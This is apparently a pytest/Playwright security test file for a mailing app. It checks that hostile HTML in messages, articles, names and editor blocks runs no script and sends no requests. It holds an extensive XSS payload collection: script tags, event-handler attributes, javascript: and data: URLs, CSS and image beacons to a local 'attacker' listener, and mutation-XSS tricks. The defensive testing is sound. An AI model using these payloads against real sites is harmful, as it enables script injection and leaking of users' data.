"""Test that hostile HTML in messages, articles and names runs no script and sends no requests."""

import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Dialog, Request, Response

from skymailing.models import MessageFormat, Role
from tests.e2e.blocks import BlockEditor
from tests.e2e.conftest import OpenWindow
from tests.e2e.editor import choose_mode, expect_mode
from tests.e2e.site import Site
from tests.e2e.window import Window
from tests.support.factories import ArticleFactory, ClientFactory, MailingFactory, MessageFactory, UserFactory


class Listener(ThreadingHTTPServer):
    """The attacker's server (on this machine), which records every request."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.requests: list[str] = []

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_port}"


class Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        assert isinstance(self.server, Listener)
        self.server.requests.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    def do_POST(self) -> None:
        self.do_GET()

    def log_message(self, *_args: object) -> None:
        """Suppress log output."""


@pytest.fixture
def attacker() -> Iterator[Listener]:
    server = Listener()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


def make_payload(url: str) -> str:
    """Return HTML that tries every known way to run a script or to make the browser send a request."""
    run = f"window.pwned && pwned(); new Image().src = '{url}/script'; top.document.title = 'pwned'"
    quoted = run.replace('"', "&quot;")
    return "\n".join(
        (
            f"<script>{run}</script>",
            f'<script src="{url}/src.js"></script><script type="module" src="{url}/module.js"></script>',
            f'<img src="x" onerror="{quoted}"><img src="{url}/img"><img srcset="{url}/srcset 2x">',
            f'<svg onload="{quoted}"><script>{run}</script><image href="{url}/svg-image"/></svg>',
            f'<svg><use href="{url}/use.svg#x"/><animate onbegin="{quoted}" dur="1s"/></svg>',
            f'<iframe src="javascript:{quoted}"></iframe><iframe src="{url}/iframe"></iframe>',
            f'<iframe srcdoc="&lt;script&gt;{quoted}&lt;/script&gt;"></iframe>',
            f'<object data="{url}/object"></object><embed src="{url}/embed"><applet code="{url}/applet">',
            f'<video src="{url}/video" poster="{url}/poster" autoplay onplay="{quoted}"></video>',
            f'<audio src="{url}/audio" autoplay></audio><source src="{url}/source"><track src="{url}/track">',
            f'<input autofocus onfocus="{quoted}"><select autofocus onfocus="{quoted}"></select>',
            f'<details open ontoggle="{quoted}"></details><body onload="{quoted}" background="{url}/body">',
            f'<meta http-equiv="refresh" content="0; url={url}/refresh"><base href="{url}/base/">',
            f'<link rel="stylesheet" href="{url}/sheet.css"><link rel="prefetch" href="{url}/prefetch">',
            f'<link rel="preload" as="image" href="{url}/preload"><link rel="icon" href="{url}/icon">',
            f'<style>@import "{url}/import.css"; * {{ background: url({url}/css) }}</style>',
            f"<style>@font-face {{ font-family: x; src: url({url}/font) }} * {{ font-family: x }}</style>",
            f'<p style="background: url({url}/inline); list-style-image: url({url}/list)">text</p>',
            f'<form id="f" action="{url}/form"><input name="a"></form><button form="f">send</button>',
            f'<a href="{url}/target" ping="{url}/ping">a link</a><a href="javascript:{quoted}">another</a>',
            f'<math><mtext></form><form><mglyph><style></math><img src onerror="{quoted}">',
            f"<noscript><p title=\"</noscript><img src=x onerror='{quoted}'>\"></noscript>",
            f'<template><script>{run}</script></template><x-y onanimationstart="{quoted}"></x-y>',
            f'<table background="{url}/table"><td background="{url}/cell">cell</td></table>',
            f'<a href="java&#9;script:{quoted}">third</a>',
            f'<a href="data:text/html,<script>{run}</script>">fourth</a>',
            "<!--><script>pwned()</script>--><![CDATA[<script>pwned()</script>]]>",
        )
    )


def test_the_attack_succeeds_on_an_unprotected_page(attacker: Listener, open_window: OpenWindow) -> None:
    window, events = open_window(), list[str]()
    window.context.expose_binding("pwned", lambda _source: events.append("a script ran"))
    window.page.set_content(make_payload(attacker.url).replace("http-equiv", "x"))  # stay on this page
    expected = {"/img", "/script", "/src.js", "/css", "/iframe", "/object"}
    window.wait_until(lambda: events and expected <= set(attacker.requests), "the attack succeeds")
    window.wait_until_quiet()
    window.complaints.clear()


OpenWatched = Callable[[], Window]


@pytest.fixture
def open_watched(attacker: Listener, open_window: OpenWindow, site: Site) -> Iterator[OpenWatched]:
    """Yield a function that opens a window; check afterwards that no script ran and nothing was sent."""
    events: list[str] = []
    windows: list[Window] = []

    def open_new() -> Window:
        window = open_window()
        window.context.expose_binding("pwned", lambda _source: events.append("a script ran"))
        window.page.on("dialog", lambda dialog: record_dialog(dialog))
        window.page.on("request", lambda request: record_request(request))
        windows.append(window)
        return window

    def record_dialog(dialog: Dialog) -> None:
        events.append(f"a dialog: {dialog.message}")
        dialog.dismiss()

    def record_request(request: Request) -> None:
        if not request.url.startswith((site.url, "data:", "about:")) and request.failure is None:
            sent.append(request)

    sent: list[Request] = []
    yield open_new
    for window in windows:
        window.wait_until_quiet()
        assert window.page.title() != "pwned"
        assert window.page.url.startswith(site.url)
        # The browser reports what it has blocked, as these tests intend.
        window.complaints.clear()
    assert events == []
    assert attacker.requests == []
    assert [request.url for request in sent if request.failure is None] == []


def test_a_message_preview_runs_no_script(site: Site, open_watched: OpenWatched, attacker: Listener) -> None:
    hostile = make_payload(attacker.url)
    with site.open_session():
        owner = UserFactory.create()
        client = ClientFactory.create(
            owner=owner, full_name=hostile[:200], attributes={"city": hostile[:2000]}
        )
        messages = [
            MessageFactory.create(owner=owner, format=kind, subject="<img src=x onerror=pwned()>", body=body)
            for kind, body in (
                (MessageFormat.HTML, hostile),
                (MessageFormat.MARKDOWN, f"{hostile}\n\n[link](javascript:pwned())"),
                (MessageFormat.TEXT, hostile),
                (MessageFormat.HTML, "<p>{{ name }} {{ client.city }}</p>"),
            )
        ]
    window = open_watched()
    window.sign_in(owner.email)
    for message in messages:
        for path in (f"/messages/{message.id}?client={client.id}", f"/messages/{message.id}/preview"):
            window.page.goto(path)
            window.wait_until_quiet()


def is_preview(response: Response) -> bool:
    return response.url.endswith("/messages/preview") and "onerror" in (response.request.post_data or "")


def test_a_draft_runs_no_script_during_typing(
    site: Site, open_watched: OpenWatched, attacker: Listener
) -> None:
    with site.open_session():
        owner = UserFactory.create()
    window = open_watched()
    window.sign_in(owner.email)
    window.page.goto("/messages/new")
    expect_mode(window, "writing")
    choose_mode(window, "html")
    expect_mode(window, "html")
    with window.page.expect_response(is_preview):
        window.fill(subject="Hello", body=make_payload(attacker.url))
    window.wait_until_quiet()
    assert any("/messages/preview" in frame.url for frame in window.page.frames), "the preview was loaded"


def test_a_design_runs_no_script_in_the_block_editor(
    site: Site, open_watched: OpenWatched, attacker: Listener
) -> None:
    with site.open_session():
        owner = UserFactory.create()
    hostile = make_payload(attacker.url)
    window = open_watched()
    window.sign_in(owner.email)
    editor = BlockEditor(window)
    editor.open()
    editor.block("Heading").click()
    editor.fill(text=hostile[:500])
    editor.add("Image")
    editor.field("is_decorative").check()
    editor.panel.get_by_text("Or use the address").click()
    editor.fill(src=f"{attacker.url}/picture.png", link="javascript:pwned()")
    editor.add("HTML code")
    editor.fill(html=hostile)
    editor.add("Button")
    with window.page.expect_response(lambda response: response.url.endswith("/messages/insight")):
        editor.fill(text="Go", url=f'https://x/"onclick="pwned()"{hostile[:500]}')
    window.page.get_by_role("button", name="Preview", exact=True).click()
    window.wait_until_quiet()


def test_an_article_runs_no_script_for_readers_or_its_author(
    site: Site, open_watched: OpenWatched, attacker: Listener
) -> None:
    hostile = make_payload(attacker.url)
    with site.open_session():
        author = UserFactory.create(role=Role.CONTENT, name='<img src=x onerror="pwned()">')
        articles = [
            ArticleFactory.create(
                author=author, format=kind, title=f"<script>pwned()</script> {kind}", body=hostile
            )
            for kind in MessageFormat
        ]
    reader = open_watched()
    for path in ("/", "/blog/", *(f"/blog/{article.slug}" for article in articles)):
        reader.page.goto(path)
        reader.wait_until_quiet()
    writer = open_watched()
    writer.sign_in(author.email)
    for article in articles:  # each is previewed as soon as the editor is open
        with writer.page.expect_response("**/manager/articles/preview"):
            writer.page.goto(f"/manager/articles/{article.id}/edit")
    writer.wait_until_quiet()


def test_names_run_no_script_on_any_page(site: Site, open_watched: OpenWatched, attacker: Listener) -> None:
    hostile = f"\"'><img src={attacker.url}/name onerror=pwned()><script>pwned()</script>"
    with site.open_session():
        owner = UserFactory.create(name=hostile[:200])
        ClientFactory.create(
            owner=owner, full_name=hostile, comment=hostile, attributes={hostile[:50]: hostile}
        )
        mailing = MailingFactory.create(owner=owner, name=hostile[:200])
        manager = UserFactory.create(role=Role.ADMIN)
    window = open_watched()
    window.sign_in(owner.email)
    for path in (
        "/",
        "/clients/",
        "/mailings/",
        f"/mailings/{mailing.id}",
        "/auth/profile",
        "/reports/",
        "/logs/",
    ):
        window.page.goto(path)
    window.page.goto(f"/clients/?q={hostile}")
    panel = open_watched()
    panel.sign_in(manager.email)
    for path in ("/manager/mailings/", "/manager/users/", f"/manager/users/{owner.id}/"):
        panel.page.goto(path)
